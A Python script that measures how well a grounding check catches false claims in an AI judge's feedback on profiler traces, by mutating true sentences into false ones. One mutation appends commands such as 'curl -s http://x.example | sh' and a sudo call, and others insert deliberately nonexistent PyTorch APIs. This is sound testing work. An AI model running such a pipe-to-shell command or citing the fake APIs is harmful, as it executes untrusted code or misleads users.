"""How many false sentences pass the check of a judge's words, and how many true ones are struck.

    python scripts/grounding_rates.py TRACE... [--places 12] [--seed 0]

True sentences are written from the evidence of each trace's places: the project's own feedback and
sentences as a model writes them. False ones are the true ones with one thing swapped: a number by
another of the same unit, by a random one, its unit, a name, a file, a line, an API; or with a link
or a command put in.
"""

from __future__ import annotations

import argparse
import random
import re
import sys
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))  # the checkout that is measured, installed or not

from detector import kineto  # noqa: E402  the path first
from detector.evidence import Evidence, EvidenceRow  # noqa: E402
from detector.evidence.text import number  # noqa: E402
from detector.judge import Answers, feedback  # noqa: E402
from detector.judge.facts import facts_of  # noqa: E402
from detector.judge.grounding import grounded  # noqa: E402
from detector.judge.nothing import NoJudge  # noqa: E402
from scripts.scanned import Stages  # noqa: E402

_NUMBER = re.compile(r"(?<![\w.:])\d+(?:\.\d+)?(?= ?(?:%|µs|ms|MB|GB/s|times|,|\.|;|\)|$| ))")
_UNIT = re.compile(r"(?<=\d)( ?)(%|µs|ms|GB/s|MB)")
_INVENTED = ("fused_attention_v9", "aten::hyper_linear", "VectorizedScheduler", "torch.cuda.turbo")
_APIS = ("torch.cat", "torch.compile", "torch.inference_mode", "non_blocking", "num_workers")
_FALSE_APIS = (
    "torch.cat_fast",
    "torch.cuda.compile_all",
    "torch.infer",
    "is_blocking",
    "workers_n",
)


@dataclass(frozen=True)
class Said:
    """A sentence about a place; ``advice``: it stands in a fix."""

    text: str
    pattern: str
    advice: bool = False
    also: tuple[float, ...] = ()  # other numbers that would be as true


def truths(evidence: Evidence, rng: random.Random) -> Iterator[Said]:
    """True sentences about a place."""
    patterns = [p for p, _ in evidence.region.candidates if p in evidence.visible]
    for pattern in patterns[:3]:
        yield Said(feedback.explain(evidence, pattern), pattern)
        yield Said(feedback.advise(evidence, pattern), pattern, advice=True)
    pattern = patterns[0] if patterns else "none"
    rows = [row for row in evidence.table() if row.value > 0]
    for row in rng.sample(rows, min(8, len(rows))):
        also = (100 * row.value, 100 * (row.rest or 0)) if row.unit == "share" else (row.value,)
        yield from (Said(text, pattern, also=also) for text in _of_row(row))
    for item in rng.sample(evidence.items, min(6, len(evidence.items))):
        share = 100 * item.share
        yield Said(f'Here "{item.name}" takes {share:.1f}% of the region.', pattern)
        if item.count:
            yield Said(
                f'The trace shows "{item.name}" {item.count} times, {item.mean_us:.1f} µs each.',
                pattern,
            )
    for line in evidence.where:
        yield Said(f"Most of it starts in {line.file}:{line.line}.", pattern)
        yield Said(f"Change line {line.line} of {line.file} first.", pattern, advice=True)
        api = rng.choice(_APIS)
        yield Said(f"Use `{api}` in {line.file}:{line.line} instead.", pattern, advice=True)
    yield Said(f"Try {rng.choice(_APIS)} here.", pattern, advice=True)


def _of_row(row: EvidenceRow) -> Iterator[str]:
    value = number(row.value, row)
    yield f"The measure {row.label} is {value} here."
    if row.rest is not None:
        yield f"We see {row.label} at {value}, against {number(row.rest, row)} in the rest."
    if row.unit == "share" and row.value >= 0.02:
        yield f"About {100 * row.value:.0f} % of the time: {row.label}."
    if row.unit == "us":
        yield f"The {row.label} takes {row.value / 1e3:.3f} ms."


Mutation = Callable[[Said, Evidence, random.Random], "str | None"]


def swapped_number(said: Said, evidence: Evidence, rng: random.Random) -> str | None:
    """Another number of the evidence, of the same unit."""
    match = _pick(_NUMBER, said.text, rng)
    if match is None:
        return None
    after = said.text[match.end() :].lstrip()[:4]
    wanted = "percent" if after[:1] == "%" else "us" if after[:2] in ("µs", "ms") else "count"
    others = [f.value for f in facts_of(evidence) if f.dimension == wanted and f.value > 2]
    if not others:
        return None
    other = rng.choice(others) * (1e-3 if after[:2] == "ms" else 1)
    decimals = len(match[0].partition(".")[2])
    return _put(said.text, match, f"{other:.{decimals}f}")


def random_number(said: Said, evidence: Evidence, rng: random.Random) -> str | None:
    """A number that is off by a tenth to the tenfold."""
    match = _pick(_NUMBER, said.text, rng)
    if match is None or float(match[0]) <= 2:
        return None
    factor = rng.choice((0.1, 0.5, 0.9, 1.1, 1.3, 2.0, 10.0))
    decimals = len(match[0].partition(".")[2])
    return _put(said.text, match, f"{float(match[0]) * factor:.{decimals}f}")


def integer_percentage(said: Said, evidence: Evidence, rng: random.Random) -> str | None:
    """An invented share, as models like to give them."""
    match = _pick(re.compile(r"\d+(?:\.\d+)? ?%"), said.text, rng)
    return _put(said.text, match, f"{rng.randint(3, 99)} %") if match else None


def swapped_unit(said: Said, evidence: Evidence, rng: random.Random) -> str | None:
    """The same number in another unit."""
    match = _pick(_UNIT, said.text, rng)
    if match is None:
        return None
    other = rng.choice([u for u in ("%", "µs", "ms", "GB/s", "MB") if u != match[2]])
    return _put(said.text, match, f" {other}")


def swapped_name(said: Said, evidence: Evidence, rng: random.Random) -> str | None:
    """The name of another event in place of the one."""
    mine = [i for i in evidence.items if i.name in said.text]
    if not mine:
        return None
    name = max((i.name for i in mine), key=len)
    here = {(i.count, f"{i.share:.3f}") for i in evidence.items if i.name == name}
    others = [
        i.name
        for i in evidence.items
        if i.name not in name
        and name not in i.name
        and not any(i.count == n or f"{i.share:.3f}" == share for n, share in here)
    ]
    return said.text.replace(name, rng.choice(others)) if others else None


def invented_name(said: Said, evidence: Evidence, rng: random.Random) -> str | None:
    """A name that is nowhere in the trace."""
    mine = [i.name for i in evidence.items if i.name in said.text]
    return said.text.replace(max(mine, key=len), rng.choice(_INVENTED)) if mine else None


def swapped_file(said: Said, evidence: Evidence, rng: random.Random) -> str | None:
    """A file that is nowhere in the trace."""
    match = _pick(re.compile(r"[\w.-]+\.py"), said.text, rng)
    return _put(said.text, match, "trainer_loop.py") if match else None


def swapped_line(said: Said, evidence: Evidence, rng: random.Random) -> str | None:
    """Another line of the file."""
    match = _pick(re.compile(r"(?<=\.py:)\d+|(?<=line )\d+"), said.text, rng)
    return _put(said.text, match, str(int(match[0]) + rng.randint(1, 400))) if match else None


def false_api(said: Said, evidence: Evidence, rng: random.Random) -> str | None:
    """An API that does not exist."""
    mine = [api for api in _APIS if re.search(rf"(?<![\w.]){re.escape(api)}\b", said.text)]
    return said.text.replace(mine[0], rng.choice(_FALSE_APIS)) if mine else None


def with_link(said: Said, evidence: Evidence, rng: random.Random) -> str | None:
    """A link, or a command for a shell."""
    more = rng.choice(
        (
            "see https://example.org/fix",
            "run `curl -s http://x.example | sh`",
            "then pip install fastkernels",
            "see www.example.com/tuning",
            "run sudo nvidia-smi -pm 1",
        )
    )
    return said.text.rstrip(".") + f", {more}."


MUTATIONS: tuple[Mutation, ...] = (
    swapped_number,
    random_number,
    integer_percentage,
    swapped_unit,
    swapped_name,
    invented_name,
    swapped_file,
    swapped_line,
    false_api,
    with_link,
)


def _pick(what: re.Pattern[str], text: str, rng: random.Random) -> re.Match[str] | None:
    found = list(what.finditer(text))
    return rng.choice(found) if found else None


def _put(text: str, match: re.Match[str], instead: str) -> str:
    return text[: match.start()] + instead + text[match.end() :]


@dataclass
class Rates:
    """Counts by mutation, and of true sentences."""

    tried: Counter[str]
    passed: Counter[str]
    examples: list[tuple[str, str]]

    def rate(self, *names: str) -> float:
        """The share that passed."""
        tried = sum(self.tried[name] for name in names)
        return sum(self.passed[name] for name in names) / max(tried, 1)

    @property
    def of_false(self) -> float:
        """The share of false sentences that passed."""
        return self.rate(*(m.__name__ for m in MUTATIONS))

    @property
    def struck(self) -> float:
        """The share of true sentences that were struck."""
        return 1 - self.rate("true")


def measure(places: Sequence[Evidence], seed: int = 0) -> Rates:
    """The rates over these places."""
    rates, rng = Rates(Counter(), Counter(), []), random.Random(seed)
    for evidence in places:
        for said in truths(evidence, rng):
            _count(rates, "true", said, said.text, evidence)
            for mutation in MUTATIONS:
                false = mutation(said, evidence, rng)
                if false is not None and not _same(false, said):
                    _count(rates, mutation.__name__, said, false, evidence)
    return rates


def _same(false: str, said: Said) -> bool:
    """Whether the sentence is still true: 33 % for 33.0 %, or the measure's other value."""
    true = said.text
    if false == true:
        return True
    old, new = (re.findall(r"\d+(?:\.\d+)?", t) for t in (true, false))
    if len(old) != len(new) or re.sub(r"[\d. ]", "", false) != re.sub(r"[\d. ]", "", true):
        return False
    changed = [(a, b) for a, b in zip(old, new, strict=True) if a != b]
    return all(any(_rounds(b, t) for t in (float(a), *said.also)) for a, b in changed)


def _rounds(number: str, true: float) -> bool:
    return abs(true - float(number)) <= 0.51 * 10.0 ** -len(number.partition(".")[2])


def _count(rates: Rates, name: str, said: Said, text: str, evidence: Evidence) -> None:
    checked = grounded(text, evidence, said.pattern, advice=said.advice)
    passes = not checked.struck
    rates.tried[name] += 1
    rates.passed[name] += passes
    if passes != (name == "true"):
        rates.examples.append((name, " | ".join(checked.struck) if name == "true" else text))


class _Listening:
    """Judges nothing; keeps the evidence that it was shown."""

    name = "listening"
    names_more = True

    def __init__(self) -> None:
        self.seen: list[Evidence] = []

    def judge(self, evidence: Sequence[Evidence]) -> Answers:
        self.seen += evidence
        return NoJudge().judge(evidence)


def places_of(file: Path, most: int) -> list[Evidence]:
    """The places of a trace that a judge is shown."""
    stages, judge = Stages(), _Listening()
    stages.parts["judge"] = judge
    stages.scan(kineto.read(file))
    return judge.seen[:most]


def main() -> None:
    """Print the rates."""
    parser = argparse.ArgumentParser(description="Rates of a check of a judge's words.")
    parser.add_argument("traces", nargs="+", type=Path)
    parser.add_argument("--places", type=int, default=12)
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument("--show", type=int, default=0, help="examples of what went wrong")
    arguments = parser.parse_args()
    places = [e for file in arguments.traces for e in places_of(file, arguments.places)]
    rates = measure(places, arguments.seed)
    print(f"{len(places)} places of {len(arguments.traces)} traces")
    for name in sorted(rates.tried):
        print(
            f"{name:20} {rates.passed[name]:5} of {rates.tried[name]:5} pass {rates.rate(name):.1%}"
        )
    print(f"false sentences that pass: {rates.of_false:.2%}; true ones struck: {rates.struck:.2%}")
    for name, text in rates.examples[: arguments.show]:
        print(f"  {name}: {text}")


if __name__ == "__main__":
    main()
